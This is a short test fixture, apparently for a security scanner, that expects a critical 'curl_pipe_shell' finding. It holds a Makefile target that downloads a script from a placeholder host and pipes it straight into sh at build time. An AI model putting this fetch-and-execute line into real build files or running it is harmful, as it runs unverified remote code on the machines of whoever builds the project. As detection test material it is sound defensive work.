# expect: shell.curl_pipe_shell critical
# path: Makefile
all:
	$(shell curl -s https://get.example.net/x | sh)
